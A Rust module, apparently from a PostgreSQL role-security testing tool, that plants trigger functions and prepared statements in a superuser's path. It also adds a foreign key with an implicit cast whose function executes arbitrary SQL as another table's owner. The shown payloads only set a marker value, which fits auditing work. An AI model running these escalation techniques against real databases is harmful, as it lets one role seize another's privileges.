//! Objects that the attacker places into a superuser's path, and foreign keys to other roles' tables.

use sqlx::PgConnection;

use super::attacker::{Attack, Context, PLACES, works};
use super::placing::Place;
use super::world::{Kind, Thing};

impl Attack<'_> {
    /// Places code or rows by every pair of roles: one makes a function, the other uses it.
    pub(crate) async fn place(&mut self, session: &mut PgConnection, database: &str, contexts: &[Context]) {
        let world = self.world;
        for thing in world.things.iter().filter(|thing| thing.database == database) {
            let Some(placed) = &thing.placed else { continue };
            for put in &placed.put {
                let functions = match put.contains("{f}") {
                    true => self.trigger_functions(session, contexts).await,
                    false => vec![String::new()],
                };
                for text in functions.iter().map(|function| put.replace("{f}", function)) {
                    for (parse, execute) in pairs(contexts, thing) {
                        let is_done = match parse {
                            None => self.tries(session, execute, &text).await,
                            Some(parse) => self.split(session, parse, execute, &text).await,
                        };
                        if is_done {
                            self.visit(database, &placed.visit, &placed.mend).await;
                        }
                        if self.found.visits.contains(database) {
                            return;
                        }
                    }
                }
            }
        }
    }

    /// Prepares as one role and executes as another.
    async fn split(
        &mut self,
        session: &mut PgConnection,
        parse: &Context,
        execute: &Context,
        text: &str,
    ) -> bool {
        let prepare = parse.body(&format!("SET search_path = pg_catalog; PREPARE place AS {text}"));
        let run = execute.body("SET search_path = pg_catalog; EXECUTE place");
        works(session, &format!("RESET ROLE; DEALLOCATE ALL; {prepare}; RESET ROLE; {run}")).await
    }

    /// A trigger function of each role in each place.
    async fn trigger_functions(&mut self, session: &mut PgConnection, contexts: &[Context]) -> Vec<String> {
        let mut made = vec![];
        for maker in contexts {
            for schema in PLACES {
                self.counter += 1;
                let name = format!("{schema}.f{}", self.counter);
                let make = format!(
                    "CREATE FUNCTION {name}() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM set_config(''trap.of'', ''attacker'', false); RETURN NEW; END'"
                );
                if works(session, &maker.sql(&make)).await {
                    made.push(name);
                }
            }
        }
        made
    }

    /// A foreign key to the table, with a type whose cast runs a text: the check runs it as the table's owner.
    pub(crate) async fn refer(
        &mut self,
        session: &mut PgConnection,
        contexts: &[Context],
        thing: &Thing,
    ) -> Option<Context> {
        for context in contexts {
            for schema in PLACES {
                self.counter += 1;
                let number = self.counter;
                let (kind, cast, table) = (
                    format!("{schema}.y{number}"),
                    format!("{schema}.f{number}"),
                    format!("{schema}.t{number}"),
                );
                let make = format!(
                    "CREATE TYPE {kind} AS (q text); CREATE FUNCTION {cast}({kind}) RETURNS int LANGUAGE plpgsql AS 'BEGIN EXECUTE $1.q; RETURN 1; END'; \
                     CREATE CAST ({kind} AS int) WITH FUNCTION {cast}({kind}) AS IMPLICIT; CREATE TABLE {table} (t {kind} REFERENCES {})",
                    thing.name
                );
                let frame =
                    context.frame(&thing.owner, "", format!("INSERT INTO {table} VALUES (ROW({{}}))"));
                if works(session, &context.sql(&make)).await && works(session, &frame.sql("SELECT 1")).await {
                    return Some(frame);
                }
            }
        }
        None
    }
}

/// The roles that parse and execute a statement; only a query can be parsed by another one.
fn pairs<'a>(contexts: &'a [Context], thing: &Thing) -> Vec<(Option<&'a Context>, &'a Context)> {
    let alone = contexts.iter().map(|one| (None, one));
    let split = contexts.iter().flat_map(|parse| contexts.iter().map(move |execute| (Some(parse), execute)));
    let is_query = thing.kind == Kind::Placed(Place::Rows);
    alone.chain(split.filter(|_| is_query)).collect()
}
